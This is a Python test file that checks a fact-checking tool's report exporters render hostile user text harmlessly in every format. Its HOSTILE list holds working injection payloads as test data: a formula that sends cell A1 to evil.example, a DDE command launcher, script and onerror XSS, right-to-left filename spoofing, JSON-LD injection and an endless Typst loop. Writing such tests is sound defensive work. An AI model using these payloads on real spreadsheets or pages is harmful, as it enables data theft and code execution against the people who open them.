"""Words that mean harm, in every form of a report: they are words to whatever reads it, and change nothing else."""

import csv
import io
import json
import re
import zipfile
from functools import partial
from html.parser import HTMLParser

import openpyxl
import pytest
from lxml import etree

from factcheck.reports.exporters import RENDERERS
from tests.reports.exporters.test_as_pdf import tree
from tests.reports.payloads import assertion, evidence, payload, plain
from tests.standards import standard

HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/"&A1,"x")',
    "formula behind a line": "words\r\n+cmd|' /C calc'!A0",
    "right to left": "\u202egnp.exe\u2066",
    "nul": "a\0b\x1b[31m",
    "noncharacters": "\ufffe\uffff",
    "long": "x" * 100_000,
    "html": "</style></script><script>alert(1)</script><img src=x onerror=alert(1)>",
    "xml": "<r><t>]]></t></r>",
    "broken xml": "<r>&</r>",
    "json": '"}],"@context":"http://evil.example/"',
    "context": "http://evil.example/context.jsonld",
    "link": "internal:'About this report'!A1",
    "typst": '#panic("x") $x$ = h *b* _i_ `r` @l <l> // c \\ #{while true {}} ~ -- ...',
    "separators": ';,\t"\r\n;;',
}


def report_on(words):
    """A report that holds the words wherever somebody typed them or a text brought them."""
    tag = {"verdict": "verified", "party": words, "note": words, "settles": False, "by": words, "why_no_locator": words}
    typed = dict.fromkeys(("party", "note", "attributed_to", "cue", "sentence"), words)
    piece = evidence(title=words, url=words, locator=words, excerpt=words, by=words)
    asserted = assertion(
        **typed,
        standing="verified",
        reviewers=[words],
        tags=[{**tag, "at": "2026-05-22T12:00:00Z"}],
        evidence=[piece],
    )
    given = payload(asserted, title=words, byline=words, address=words)
    text = f"{words}\n\n{words}"
    halves = [(0, len(words)), (len(words) + 2, len(text))]
    paragraphs = [
        {"kind": kind, "sentences": [{"start": start, "end": end, "assertion": number}]}
        for kind, (start, end), number in zip(("headline", "sentence"), halves, (None, 1), strict=True)
    ]
    not_taken = [{"number": 1, "paragraph": 1, "start": 0, "end": len(words), "kind": "headline", "sentence": words}]
    asserted["places"] = [{"paragraph": 2, "start": halves[1][0], "end": halves[1][1], "kind": "sentence"}]
    made = {**given["report"], "correction": words, "frozen_by": words, "kind": "correction", "replaces": 1}
    return {**given, "text": text, "paragraphs": paragraphs, "not_taken": not_taken, "report": made}


class Elements(HTMLParser):
    def __init__(self, body):
        super().__init__()
        self.found = []
        self.feed(body.decode())

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, sorted(name for name, _ in attrs)))


def same_page(body, harmless, words):
    assert [e for e in Elements(body).found if e[0] != "a"] == [e for e in Elements(harmless).found if e[0] != "a"]


def same_rows(body, harmless, words, delimiter=","):
    read = [
        list(csv.reader(io.StringIO(file.decode("utf-8-sig"), newline=""), delimiter=delimiter))
        for file in (body, harmless)
    ]
    assert [len(row) for row in read[0]] == [len(row) for row in read[1]]
    for cell in (cell for row in read[0] for cell in row):
        assert len(cell) <= 32_767
        assert not any(re.match(r"[=+\-@\t\0]", line) for line in re.split(r"[\r\n]", cell))


def same_cells(body, harmless, words):
    books = [openpyxl.load_workbook(io.BytesIO(file)) for file in (body, harmless)]
    assert [s.dimensions for s in books[0]] == [s.dimensions for s in books[1]]
    for cell in (cell for sheet in books[0] for row in sheet.iter_rows() for cell in row):
        assert cell.data_type != "f"
        assert len(str(cell.value or "").encode("utf-16-le")) <= 2 * 32_767
    with zipfile.ZipFile(io.BytesIO(body)) as packed:
        for name in packed.namelist():
            etree.fromstring(packed.read(name))


def same_keys(body, harmless, words):
    def keys(value):
        if isinstance(value, dict):
            return {name: keys(v) for name, v in value.items()}
        return [keys(v) for v in value] if isinstance(value, list) else type(value).__name__

    def strings(value):
        if isinstance(value, dict | list):
            return [s for v in (value.values() if isinstance(value, dict) else value) for s in strings(v)]
        return [value] if isinstance(value, str) else []

    assert keys(json.loads(body)) == keys(json.loads(harmless))
    assert words in strings(json.loads(body))


def same_kinds(body, harmless, words):
    assert {tag for tag, _ in Elements(body).found} - {"a"} == {tag for tag, _ in Elements(harmless).found} - {"a"}


IN_PLACE_OF = {
    HOSTILE["right to left"]: "[U+202E]gnp.exe[U+2066]",
    HOSTILE["nul"]: "a[U+0000]b[U+001B][31m",
    HOSTILE["noncharacters"]: "[U+FFFE][U+FFFF]",
}


def same_document(body, harmless, words, parts=list):
    """The same elements of a PDF, and the words as words: those that no page can show as their numbers."""
    told = {"Link", "Span", "P"} if words in IN_PLACE_OF else {"Link", "Span"}  # the paragraph that says so
    read = [parts(kind for _, kind, _ in tree(file) if kind not in told) for file in (body, harmless)]
    assert read[0] == read[1]
    layer = re.sub(r"\s", "", plain(body).decode())
    shown = re.sub(r"\s", "", IN_PLACE_OF.get(words, words))
    assert shown in layer or layer.count("x") >= len(words) > 1_000


READ = {
    "html": same_page,
    "pdf": same_document,
    "galley": same_kinds,
    "galley-pdf": partial(same_document, parts=set),
    "csv": same_rows,
    "evidence-csv": same_rows,
    "sentences-csv": same_rows,
    "csv-semicolon": partial(same_rows, delimiter=";"),
    "evidence-semicolon": partial(same_rows, delimiter=";"),
    "csv-metadata": same_keys,
    "xlsx": same_cells,
    "json": same_keys,
    "annotations": same_keys,
    "claimreview": same_keys,
}


@standard("S34", "S50")
@pytest.mark.parametrize("words", HOSTILE.values(), ids=HOSTILE)
@pytest.mark.parametrize("form", RENDERERS)
def test_hostile_words_are_words_in(form, words):
    if RENDERERS[form].content_type == "application/pdf":
        words = words[:2_000]  # the whole length: `test_words_that_are_longer_than_a_line_stay_on_the_page`
    harmless = "http://harmless.example/" if words.startswith("http://") else "words"
    READ[form](RENDERERS[form].render(report_on(words)), RENDERERS[form].render(report_on(harmless)), words)
